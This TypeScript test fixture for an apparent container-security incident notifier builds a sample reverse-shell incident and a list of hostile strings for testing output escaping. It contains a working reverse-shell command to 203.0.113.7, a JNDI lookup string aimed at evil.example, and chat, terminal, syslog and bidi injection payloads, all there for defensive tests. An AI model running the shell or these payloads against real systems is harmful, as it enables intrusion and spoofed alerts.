/**
 * Holds notices for tests: one of an ordinary incident, one in which every text is hostile.
 * In: what a test wants different. Out: notices, the same each time.
 */
import type { Incident } from "../core/judge/incident/incident.ts";
import type { SignalFact } from "../core/observe/detect/detect-fact.ts";
import type { Citation, Workload } from "../core/observe/fact.ts";
import type { Notice } from "../ports/notifier.ts";

const startUs = Date.UTC(2026, 0, 2, 3, 4, 5) * 1000;

const workload: Workload = {
  ...{ cluster: "prod", namespace: "shop", kind: "Deployment", name: "api", container: "web" },
};

const citation: Citation = {
  ...{ timeUs: startUs, node: "node-1", execId: "exec-1", pid: 4711, binary: "/bin/sh" },
  ...{ sensor: "exec", policy: "", input: 0, offset: 42 },
};

const signal: SignalFact = {
  ...{ kind: "signal", container: "0123456789abcdef0123456789abcde", node: "node-1" },
  ...{ entry: "exec-0", entryKind: "service", host: "exec-h", process: "exec-1", others: [] },
  ...{ actor: "service", workload, rule: "shell-with-socket", title: "Shell bound to a socket" },
  ...{ ruleKind: "sequence", family: "reverse-shell", level: "high", score: 50 },
  ...{ techniques: ["T1059.004"], tactics: ["execution"], matrix: ["MS-TA9006"] },
  ...{ author: "waggle", because: ["CommandLine contains /dev/tcp/"] },
  indicators: [{ type: "ip", value: "203.0.113.7" }],
  ...{ incomplete: false, count: 2, firstSeenUs: startUs, lastSeenUs: startUs + 5_000_000 },
  citations: [citation],
};

export const sampleIncident: Incident = {
  ...{ id: "inc-0123456789abcdef", state: "open", severity: "high", score: 90 },
  scoreParts: [{ label: "signals of reverse-shell", kind: "add", value: 90 }],
  ...{ confidence: "high", doubts: [], headline: "Reverse shell from shop/api to 203.0.113.7" },
  story: [
    "The web server of shop/api started a shell.",
    'It ran "bash -i" with its output on a connection to 203.0.113.7:4444.',
  ],
  ...{ firstSeenUs: startUs, lastSeenUs: startUs + 5_000_000, node: "node-1" },
  ...{
    containers: [signal.container],
    workloads: [workload],
    images: ["registry.test/shop/api:1"],
  },
  ...{ entries: ["exec-0"], families: ["reverse-shell"], techniques: ["T1059.004"] },
  ...{ tactics: ["execution"], matrix: ["MS-TA9006"], authors: ["waggle"], signals: [signal] },
  timeline: [
    {
      ...{ timeUs: startUs, process: "exec-1", what: "exec", text: 'started "bash -i"' },
      ...{ level: "high", techniques: ["T1059.004"], count: 1, citations: [citation] },
    },
  ],
  processes: [
    {
      ...{ kind: "process", container: signal.container, node: "node-1", process: "exec-1" },
      ...{ parent: "exec-0", entry: "exec-0", workload, image: "registry.test/shop/api:1" },
      ...{ pid: 4711, uid: 33, auid: -1, binary: "/bin/bash", arguments: "-i", cwd: "/" },
      ...{ actor: "service", startUs, exitUs: 0, exitStatus: "", citations: [citation] },
      ...{ signals: ["shell-with-socket"], isEntry: false },
    },
  ],
  artefacts: [
    { type: "ip", value: "203.0.113.7" },
    { type: "command", value: "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1" },
  ],
  firstAccess: {
    ...{ how: "service", text: "A request to the web server started it.", process: "exec-0" },
    ...{ confidence: "likely", citations: [citation] },
  },
  ...{ reach: [], possibleCauses: [], gaps: [] },
  actions: [
    {
      ...{ phase: "contain", text: "Block 203.0.113.7 at the egress of shop/api" },
      ...{ because: "A shell is connected to it.", command: "kubectl apply -f block.yaml" },
      citations: [citation],
    },
  ],
  ...{ related: [], omitted: [] },
};

export const sampleNotice: Notice = {
  ...{ kind: "open", incident: sampleIncident, news: [], thread: "", cluster: "prod" },
};

/** One of each way in which text was seen to break out of a receiver's format. */
export const hostileTexts: readonly string[] = [
  "<!channel> <!here> @everyone <@U012AB3CD> <#C012AB3CD>",
  "<https://evil.example/|the dashboard> https://evil.example/x",
  "\x1b[2J\x1b[31mred\x07\x00\x7f\x9b",
  "line\nbreak\r\nFROM: nobody\u2028more",
  "CEF:0|Fake|pipe\\|=\\=|a=b cs1=x",
  '"] <165>1 - - - - - [x@1 y="z\\"]',
  "`code` ```block``` *bold* _it_ ~no~ > quote",
  "\u202egnp.exe\u2066\u200b\ufeff zero\u0000width",
  "😀 emoji :boom: 👩‍👩‍👧‍👦 \ud800 lone",
  '{"routing_key":"x"}\n{"kind":"resolve"}',
  "&lt;!channel&gt; &amp;amp; &",
  ["$", "{jndi:ldap://evil.example/a} {{ .Labels }} %s %n"].join(""),
];

/** Every text of the notice that comes from outside is `text`; ids stay what they are. */
export function hostileNotice(text: string, over: Partial<Notice> = {}): Notice {
  return { ...sampleNotice, ...over, incident: spoil(sampleIncident, text), news: [text, text] };
}

/** What code of ours alone writes: closed sets of words. */
const ownKeys = new Set([
  ...["id", "state", "severity", "kind", "confidence", "families", "level", "family", "how"],
  ...["what", "phase", "type", "actor", "sensor", "ruleKind", "entryKind"],
]);

function spoil<Value>(value: Value, text: string, key = ""): Value {
  if (ownKeys.has(key)) return value;
  if (typeof value === "string") return text as Value;
  if (Array.isArray(value)) return value.map((one) => spoil(one, text)) as Value;
  if (typeof value !== "object" || value === null) return value;
  const entries = Object.entries(value).map(([name, one]) => [name, spoil(one, text, name)]);
  return Object.fromEntries(entries) as Value;
}
